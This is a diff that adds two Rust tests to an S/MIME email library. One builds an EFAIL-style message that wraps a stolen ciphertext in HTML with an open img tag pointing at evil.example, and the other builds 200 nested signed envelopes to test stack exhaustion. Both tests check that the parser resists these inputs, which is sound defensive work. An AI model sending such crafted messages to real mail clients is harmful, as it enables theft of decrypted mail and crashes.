@@ -211,6 +211,53 @@ fn what_stands_beside_a_signed_part_is_not_signed() {
     assert_ne!(verdict(enclosed.as_bytes()).map(|s| s.state), Some(S::Valid));
 }
 
+/// EFAIL: tags before and after somebody else's ciphertext, which would carry its text away.
+#[test]
+fn what_was_opened_is_read_by_itself() {
+    let sealed = String::from_utf8(file("sealed-rsa-cbc.eml")).unwrap();
+    let (_, part) = sealed.split_once("MIME-Version: 1.0\r\n").unwrap();
+    let html = |html: &str| format!("--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n");
+    let raw = format!(
+        "From: a@hel.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{}--b\r\n{part}\r\n{}--b--\r\n",
+        html("Before <img src=\"https://evil.example/?"),
+        html("\"> after"),
+    );
+    let content = later(raw.as_bytes());
+    assert!(content.text.contains("päätös asiassanne on tehty"), "{}", content.text);
+    let html = content.html.unwrap();
+    assert!(html.contains("päätös asiassanne") && !html.contains("evil") && !html.contains("<img"), "{html}");
+}
+
+/// Seals in seals, deeper than anybody writes, on a small stack.
+#[test]
+fn seals_in_seals_end() {
+    fn element(tag: u8, content: &[&[u8]]) -> Vec<u8> {
+        let content = content.concat();
+        let length = u32::try_from(content.len()).unwrap().to_be_bytes();
+        [&[tag, 0x84], &length[..], &content].concat()
+    }
+    let mut entity = b"Content-Type: text/plain\r\n\r\nHej\r\n".to_vec();
+    for _ in 0..200 {
+        let data = element(
+            0x30,
+            &[b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01", &element(0xa0, &[&element(4, &[&entity])])],
+        );
+        let signed = element(0x30, &[&[2, 1, 1], &element(0x31, &[]), &data, &element(0x31, &[])]);
+        let info = element(0x30, &[b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02", &element(0xa0, &[&signed])]);
+        let head = b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n";
+        entity = [&head[..], &info].concat();
+    }
+    let read = move || {
+        let opened = Opened::of(&entity, &Limits::default(), &Keyring::default());
+        let (glance, evidence) = opened.glance_and_evidence();
+        assert_eq!(glance.attachments, 1, "the innermost that was not opened is offered");
+        assert!(evidence.is_some());
+        opened.content(&ReadOptions::default()).parts.len()
+    };
+    let parts = std::thread::Builder::new().stack_size(256 << 10).spawn(read).unwrap().join().unwrap();
+    assert!((2..20).contains(&parts), "{parts}");
+}
+
 #[test]
 fn line_ends_of_a_file_do_not_break_a_signature() {
     let raw = file("clear-rsa.eml");
